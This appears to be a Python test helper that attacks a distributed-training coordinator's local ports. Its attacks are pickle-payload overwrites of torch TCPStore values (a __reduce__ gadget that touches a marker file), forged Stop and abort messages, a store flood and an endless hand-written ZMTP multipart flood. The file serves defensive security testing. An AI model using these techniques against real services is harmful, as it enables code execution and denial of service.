"""A client WITHOUT the job's secret that attacks every TCP port a coordinator listens on.

Run as ``python rendezvous_attacker.py <coordinator pid> <job> <marker path> <report path>``
beside a running job (tests/dist/test_rendezvous_attack.py). It finds the ports as ``ss
-ltnp`` would (the coordinator's listening sockets), then, on each port, tries what a
torch ``TCPStore`` client can do (list the keys; replace every pickled value it sees with a
pickle that creates the marker file; forge the step agreement with a Stop order and pre-set
the commit decisions to abort; write junk; flood 4 MiB values) and what a zmq peer can do
(a multipart message of 8 MiB frames that never ends, in hand-written ZMTP), until it is
terminated. What worked is written to the report (JSON) as it happens.
``python rendezvous_attacker.py flood <port> <frames>`` sends only that message.
"""
from __future__ import annotations

import json
import os
import pathlib
import socket
import sys
import threading
import time
from datetime import timedelta

import psutil

FLOOD_VALUES = 64  # x 4 MiB into a store: 256 MiB
FLOOD_FRAMES = 64  # x 8 MiB of one multipart message that never ends: 512 MiB
# Seconds before the forgeries (commit decisions, agreement, junk) and the flood start; the
# pickled values are replaced from the first second (a large value shows that alone).
FORGE_AFTER_S = float(os.environ.get("ATTACK_FORGE_AFTER_S", "8"))


class Marker:
    """Unpickling this creates the marker file: code of the attacker's choice ran."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self):  # noqa: ANN204 - pickle protocol
        return (pathlib.Path.touch, (pathlib.Path(self.path),))


class Report:
    def __init__(self, path: str) -> None:
        self.path = path
        self.data: dict = {"ports": [], "store_clients": 0, "keys_listed": 0,
                           "overwritten": [], "forged": [], "junk": 0, "flooded_bytes": 0,
                           "multipart_bytes_sent": 0, "errors": []}
        self.lock = threading.Lock()

    def note(self, **kw: object) -> None:
        with self.lock:
            for k, v in kw.items():
                if isinstance(self.data.get(k), list):
                    self.data[k].append(v)
                elif isinstance(self.data.get(k), int):
                    self.data[k] += int(v)  # type: ignore[call-overload]
                else:
                    self.data[k] = v
            tmp = self.path + ".tmp"
            with open(tmp, "w") as f:
                json.dump(self.data, f)
            pathlib.Path(tmp).replace(self.path)


def listening_ports(pid: int) -> list[tuple[str, int]]:
    proc = psutil.Process(pid)
    return sorted({(c.laddr.ip, c.laddr.port) for c in proc.net_connections("tcp")
                   if c.status == psutil.CONN_LISTEN})


def attack_store(port: int, job: str, marker: str, report: Report) -> None:
    import pickle

    import torch.distributed as dist

    from slurm_etc.protocol.messages import ENCODER, Stop

    try:
        store = dist.TCPStore("127.0.0.1", port, is_master=False,
                              timeout=timedelta(seconds=3))
        store.list_keys()
    except Exception as e:  # noqa: BLE001 - the port is not a TCPStore: refused
        report.note(errors=f"store client on {port}: {type(e).__name__}: {str(e)[:100]}")
        return
    report.note(store_clients=1)
    poison = pickle.dumps(Marker(marker))
    done: set[str] = set()
    forged = False
    flooded = False
    t0 = time.monotonic()
    while True:
        try:
            keys = store.list_keys()
        except Exception as e:  # noqa: BLE001 - the store went away with the job
            report.note(errors=f"list_keys: {e}"[:200])
            return
        report.data["keys_listed"] = max(report.data["keys_listed"], len(keys))
        for k in keys:
            if k in done:
                continue
            if k.endswith("/trainer") or "/rng/" in k or "/holdings/" in k:
                store.set(k, poison)
                done.add(k)
                report.note(overwritten=k)
        if not forged and time.monotonic() - t0 > FORGE_AFTER_S:
            # forge the next resizes' commit decisions and the coming steps' agreement
            for g in range(1, 6):
                got = store.compare_set(f"{job}/g{g}/commit", "", "abort")
                report.note(forged=f"{job}/g{g}/commit={got!r}")
            agree = [k for k in keys if "/agree/" in k]
            if agree:
                base, step, _r = agree[-1].rsplit("/", 2)
                for s in range(int(step) + 1, int(step) + 40):
                    for r in range(8):
                        store.set(f"{base}/{s}/{r}", ENCODER.encode(Stop(job, 99, "forged")))
                report.note(forged=f"{base}/{int(step) + 1}..: Stop")
                store.set(f"{base}/{int(step) + 41}/0", b"\xff junk")
                report.note(junk=1)
            forged = True
        if forged and not flooded:
            for i in range(FLOOD_VALUES):
                store.set(f"flood/{i}", b"x" * (4 << 20))
                report.note(flooded_bytes=4 << 20)
            flooded = True
        time.sleep(0.005)


def zmtp_flood(port: int, frames: int, frame_bytes: int = 8 << 20,
               report: Report | None = None) -> int:
    """A zmq peer written by hand (ZMTP 3.0, NULL mechanism, as a DEALER): the greeting,
    READY, then ``frames`` frames of one multipart message, each flagged MORE, so that the
    message never ends (zmq itself would hold the parts back until the last one). Returns
    the bytes the peer accepted."""
    greeting = b"\xff" + b"\0" * 8 + b"\x7f" + b"\x03\x00" + b"NULL".ljust(20, b"\0") \
        + b"\0" + b"\0" * 31
    prop = b"\x0bSocket-Type" + len(b"DEALER").to_bytes(4, "big") + b"DEALER"
    ready = b"\x05READY" + prop
    sent = 0
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
            s.sendall(greeting)
            s.sendall(b"\x04" + bytes([len(ready)]) + ready)
            header = b"\x03" + frame_bytes.to_bytes(8, "big")  # MORE | LONG
            frame = bytes(frame_bytes)
            for _ in range(frames):
                s.sendall(header + frame)
                sent += len(frame)
                if report is not None:
                    report.note(multipart_bytes_sent=len(frame))
            time.sleep(2)  # hold the message open while the coordinator holds what it got
    except OSError:
        pass  # refused: the connection was closed on us
    return sent


def attack_zmq(port: int, report: Report) -> None:
    zmtp_flood(port, FLOOD_FRAMES, report=report)


def attack_raw(port: int, report: Report) -> None:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=2) as s:
            s.sendall(b"\xff" * 10 + b"GET / HTTP/1.0\r\n\r\n" + bytes(range(256)) * 64)
    except OSError as e:
        report.note(errors=f"raw {port}: {e}"[:200])


def main() -> None:
    if sys.argv[1] == "flood":  # flood <port> <frames>: print the bytes accepted
        print(zmtp_flood(int(sys.argv[2]), int(sys.argv[3])))
        return
    pid, job, marker, path = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
    report = Report(path)
    before = set(listening_ports(pid))
    report.note(ready=True)  # the test starts its job only now: its ports are new
    seen: set[int] = set()
    deadline = time.monotonic() + 600
    while time.monotonic() < deadline:
        for ip, port in listening_ports(pid):
            if port in seen or (ip, port) in before:
                continue
            seen.add(port)
            report.note(ports=f"{ip}:{port}")
            attack_raw(port, report)
            for target, args in ((attack_store, (port, job, marker, report)),
                                 (attack_zmq, (port, report))):
                threading.Thread(target=target, args=args, daemon=True).start()
        time.sleep(0.2)


if __name__ == "__main__":
    main()
